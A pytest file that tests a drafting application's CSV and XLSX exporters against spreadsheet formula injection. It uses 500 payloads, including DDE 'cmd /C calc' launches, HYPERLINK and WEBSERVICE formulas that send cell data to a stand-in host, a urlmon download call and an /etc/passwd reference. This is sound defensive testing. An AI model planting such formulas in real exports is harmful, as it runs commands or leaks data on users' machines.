"""Five hundred formulas in what people write, through all that we write for spreadsheets."""

import csv
import io
from datetime import UTC, date, datetime
from itertools import cycle, product
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import openpyxl
import pytest
from office_files import to_format
from openpyxl.worksheet.worksheet import Worksheet

from drafting.domain.comments import Comment, Decision, Disposition, Reply
from drafting.domain.documents import Document, Kind
from drafting.domain.drafts import Draft
from drafting.domain.fact import Fact
from drafting.domain.people import Role, Sector, Stakeholder
from drafting.domain.ratings import Objection
from drafting.domain.suggestions import Suggestion
from drafting.exchange.chart_files import table_csv
from drafting.exchange.comment_table import write_comment_table
from drafting.exchange.export import safe_cell, write_facts
from drafting.exchange.promises import columns_out
from drafting.store.facts import FACTS

AT = datetime(2026, 3, 1, tzinfo=UTC)
RUNS = (
    "=1+1",
    "=SUM(1;2)",
    "=1+1;",
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    '=HYPERLINK("http://x.example/?"&A1;"Click")',
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML(CONCAT("http://x.example/?",A1:A9),"//a")',
    '=IMAGE("http://x.example/pixel.png")',
    "=cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=DDE("cmd";"/C calc";"!A0")',
    "='file:///etc/passwd'#$passwd.A1",
    '=INDIRECT("A1")',
    "=EXEC(\"calc\")",
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x.example","c:\\x",0,0)',
    '=REGISTER.ID("kernel32","WinExec")',
    "{=1+1}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "=1+1//x",
)  # fmt: skip
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\ufeff", "\xa0", "'", '"', '"";', "x;", "x;\t ")
BEFORE += ('x";', "x\n", "x\r\n\n", "x\t", "x|", 'x,"\n', "x','")
PAYLOADS = [before + run for before, run in product(BEFORE, RUNS)]
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}


def everything(folder: Path) -> bytes:
    """Write every kind of fact, and a chart's table; each text in them is a payload."""
    payloads = cycle(PAYLOADS)
    each = -(-len(PAYLOADS) // len(FACTS)) + 1
    for kind in FACTS:
        names = columns_out(kind)
        # Stands for a fact, as only a name of a column is asked of it.
        rows = [SimpleNamespace(**{name: next(payloads) for name in names}) for _ in range(each)]
        write_facts(folder, kind.__name__, kind, cast("list[Fact]", rows))
    table = [dict.fromkeys(PAYLOADS[:40], text) for text in PAYLOADS]
    files = [one.read_bytes() for one in sorted((folder / "facts").glob("*.csv"))]
    return b"\r\n".join(one.removeprefix(b"\xef\xbb\xbf") for one in (*files, table_csv(table)))


def live(sheet: Worksheet) -> list[object]:
    """Find each cell that a spreadsheet runs or follows."""
    cells = [cell for row in sheet.iter_rows() for cell in row]
    return [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]


def opened(file: Path, to: Path, separator: int) -> Worksheet:
    """Open a file as the most trusting would: formulas worked out, by this separator."""
    # The last word is LibreOffice's "evaluate formulas".
    said = f"CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true"
    return openpyxl.load_workbook(to_format(file, "xlsx", to, said)).worksheets[0]


def test_there_are_five_hundred() -> None:
    assert len(set(PAYLOADS)) == 500


@pytest.mark.slow
@pytest.mark.parametrize("separator", SEPARATORS)
def test_none_of_500_formulas_is_live_whatever_the_separator(
    separator: str, tmp_path: Path
) -> None:
    whole = tmp_path / "whole.csv"
    whole.write_bytes(everything(tmp_path))

    sheet = opened(whole, tmp_path / "ours", SEPARATORS[separator])

    assert live(sheet) == []
    assert sheet.max_row > 1000


@pytest.mark.slow
def test_without_our_marks_they_do_run(tmp_path: Path) -> None:
    raw = io.StringIO(newline="")
    csv.writer(raw).writerows([one] for one in PAYLOADS)
    (tmp_path / "raw.csv").write_text(raw.getvalue(), encoding="utf-8", newline="")

    assert len(live(opened(tmp_path / "raw.csv", tmp_path / "theirs", 59))) > 20


@pytest.mark.slow
def test_none_of_500_formulas_is_live_in_the_workbook(tmp_path: Path) -> None:
    """Each payload as what was said, of whom, on which text, why, and in the answer."""
    facts: dict[type[Fact], list[Fact]] = {
        kind: [] for kind in (Sector, Stakeholder, Document, Draft, Comment, Disposition, Reply)
    }
    facts |= {Suggestion: [], Objection: []}
    for n, words in enumerate(PAYLOADS):
        facts[Sector].append(Sector(f"s{n}", words, AT))
        facts[Stakeholder].append(
            Stakeholder(f"p{n}", words, "", "o", f"s{n}", Role.STAKEHOLDER, AT)
        )
        facts[Document].append(Document(f"t{n}", Kind.MISSION, words, n, None, AT))
        facts[Draft].append(Draft(f"d{n}", f"t{n}", 1, words, "", "", "x", AT))
        facts[Comment].append(Comment(f"c{n}", f"d{n}", None, f"p{n}", words, words, AT))
        facts[Disposition].append(Disposition(f"a{n}", f"c{n}", Decision.PARKED, words, "x", AT))
        facts[Reply].append(Reply(f"r{n}", f"c{n}", f"p{n}", words, AT))
    write_comment_table(tmp_path / "comments.xlsx", facts, AT)
    again = to_format(tmp_path / "comments.xlsx", "xlsx", tmp_path / "again")

    for file in (tmp_path / "comments.xlsx", again):
        sheet = openpyxl.load_workbook(file).worksheets[0]
        assert live(sheet) == []
        assert sheet.max_row == len(PAYLOADS) + 1


def test_lists_and_figures_in_words_are_left_alone() -> None:
    for words in ("- one\n- two\n+ three", "5 - 3; 4 + 1", "a|b", "No; not = so", "x\n\ny"):
        assert safe_cell("Words: " + words) == "Words: " + words
    assert safe_cell(date(2026, 3, 1)) == "2026-03-01"
